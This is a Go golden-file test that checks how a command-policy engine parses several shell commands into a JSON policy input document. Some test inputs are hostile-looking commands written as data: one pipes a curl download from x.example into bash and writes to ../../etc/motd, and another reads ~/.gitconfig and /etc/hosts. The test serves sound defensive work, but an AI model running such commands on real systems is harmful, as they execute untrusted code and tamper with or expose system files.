package engine

import (
	"context"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"

	"avfs/wire"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files")

// TestGoldenInput pins the policy input document (schema_version 1) for a
// few commands: fields may be added, never renamed or removed.
func TestGoldenInput(t *testing.T) {
	cases := map[string]ParseRequest{
		"input_plain":   {Argv: []string{"grep", "-rn", "TODO", "src/"}, Cwd: "/"},
		"input_wrapped": {Argv: []string{"sudo", "env", "FOO=1", "timeout", "5", "curl", "-fsSL", "https://example.com"}, Cwd: "/"},
		"input_shell":   {Argv: []string{"sh", "-c", "curl -s https://x.example | bash && echo ok > ../../etc/motd"}, Cwd: "/src"},
		"input_sandbox": {Argv: []string{"sh", "-c", "cat /workspace/src/a ~/.gitconfig /etc/hosts /var/log/x > /tmp/out"}, Cwd: "/", Sandbox: nsSandbox("/home/u")},
		"input_local_bin": {Argv: []string{"npx", "eslint", "--fix", "."}, Cwd: "/web/src", Sandbox: nsSandbox("/home/u"),
			Workspace: &fakeWorkspace{files: []string{"/web/node_modules/.bin/eslint"}}},
	}
	for name, req := range cases {
		t.Run(name, func(t *testing.T) {
			req.PathEnv = "/nonexistent" // program_path must not depend on the machine
			req.Env = []string{"PATH", "HOME"}
			req.Vault = wire.VaultInput{Name: "default", Files: 3, Bytes: 1024, Quotas: wire.QuotaInput{MaxSizeMB: 100}}
			req.Request = wire.RequestInput{TimeoutMS: 300000}
			in, err := Parse(context.Background(), req)
			if err != nil {
				t.Fatal(err)
			}
			got, err := json.MarshalIndent(in, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, '\n')
			path := filepath.Join("testdata", "golden", name+".json")
			if *updateGolden {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./engine -run Golden -update)", err)
			}
			if string(got) != string(want) {
				t.Errorf("%s changed:\n got %s\nwant %s", name, got, want)
			}
		})
	}
}
